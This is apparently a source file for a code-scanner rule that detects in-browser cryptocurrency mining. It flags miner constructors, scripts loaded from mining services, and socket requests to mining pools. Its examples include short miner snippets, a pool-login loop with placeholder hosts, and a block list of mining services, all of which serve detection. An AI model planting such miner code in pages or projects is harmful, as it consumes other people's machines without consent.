import { defineRule, step } from '../src/define.js';
import type { AnyNode, FileContext } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Mines cryptocurrency',
    why: 'A miner spends the machine of whoever loads it. Pool software and clients of pools speak the same protocol as their purpose, and block lists name the same services as data; a call that starts one, or a login to a pool that is sent on a socket, is neither.',
    behaviour: 'execution',
    messages: {
      starts: 'Starts a miner in the page: {what}',
      pool: 'Talks to a mining pool through {what}',
    },
    bits: { starts: 13.5, pool: 10 },
  },
  examples: {
    flags: [
      {
        title: 'a page’s visitors mine',
        code: `const miner = new CoinHive.Anonymous('key', { throttle: 0.3 });\nminer.start();`,
      },
      {
        title: 'the miner’s script is loaded',
        code: `const script = document.createElement('script');\nscript.src = 'https://coinhive.invalid/lib/coinhive.min.js';\ndocument.body.appendChild(script);`,
      },
      {
        title: 'a socket asks a pool for work',
        code: `const socket = require('net').connect(3333, 'pool.invalid');\nsocket.write(JSON.stringify({ id: 1, method: 'mining.subscribe', params: [] }) + '\\n');`,
      },
      {
        title: 'or logs in the way another kind of pool wants it',
        code: `const socket = require('net').connect(3333, 'pool.invalid');\nsocket.write(JSON.stringify({ method: 'login', params: { login: wallet, pass: 'x', agent: 'a' } }));\nsocket.on('data', text => send({ method: 'submit', params: { job_id: JSON.parse(text).params.job_id } }));`,
      },
    ],
    passes: [
      {
        title: 'a blocker knows the services',
        code: `exports.blocked = ['coinhive.invalid', 'coin-hive.invalid', 'cryptoloot.invalid'];`,
      },
      {
        title: 'a socket logs in to a server of another kind',
        code: `const socket = require('net').connect(6000, 'chat.invalid');\nsocket.write(JSON.stringify({ method: 'login', params: { login: name, pass: word } }));`,
      },
    ],
  },
  file(context) {
    for (const call of context.named(MINERS)) {
      context.report({
        messageId: 'starts',
        data: { what: call.name },
        chain: [step('sink', `calls ${call.name}`, context.file, call.node)],
      });
      return;
    }
    const script = scriptOf(context);
    if (script) {
      context.report({
        messageId: 'starts',
        data: { what: 'a script of a mining service' },
        chain: [step('sink', 'loads the script of a mining service', context.file, script)],
      });
      return;
    }
    const sockets = context.named(SENDS);
    if (sockets.length === 0) return;
    const text = context.file.text.slice(0, 2_000_000);
    for (const call of sockets) {
      const said = call.args.flatMap(arg => context.textsWithin(arg));
      const written = context.file.text.slice(
        call.node.start ?? call.node.range?.[0],
        (call.node.start ?? call.node.range?.[0] ?? 0) + 1_000,
      );
      const asks = [...said, written].some(one => /mining\.(?:subscribe|authorize|submit)/.test(one));
      const logsIn = /['"]login['"]/.test(written) && /\bagent\b/.test(written) && /\bjob_id\b/.test(text);
      if (!asks && !logsIn) continue;
      context.report({
        messageId: 'pool',
        data: { what: call.name },
        chain: [step('sink', 'asks a pool for work', context.file, call.node)],
      });
      return;
    }
  },
});

const MINERS =
  /^(?:(?:global|window)\.)?(?:CoinHive|Coinhive|CryptoLoot|CRLT|CoinImp|deepMiner|DeepMiner|WMP|JSECoin)\.(?:Anonymous|User|Token)$/;
const SERVICES =
  /^(?:https?:)?\/\/[^?#]{0,200}(?:coin-?hive|crypto-?loot|coinimp|webminepool|jsecoin|authedmine|deepminer)[^?#]{0,100}/i;
const SENDS =
  /^(?:net|tls)\.(?:connect|createConnection|Socket)\(\)(?:\.\w+(?:\(\))?){0,3}\.(?:write|end)$|^(?:WebSocket|ws(?:\.WebSocket)?)\(\)\.send$/;

/** Where a page is given a script of a service that mines. */
function scriptOf({ nodes, textsOf }: FileContext): AnyNode | undefined {
  return nodes('AssignmentExpression').find(node => {
    const { left, right } = node;
    if (left.type !== 'MemberExpression' || left.computed) return false;
    if ((left.property as { name?: string }).name !== 'src') return false;
    return textsOf(right).some(text => SERVICES.test(text));
  });
}
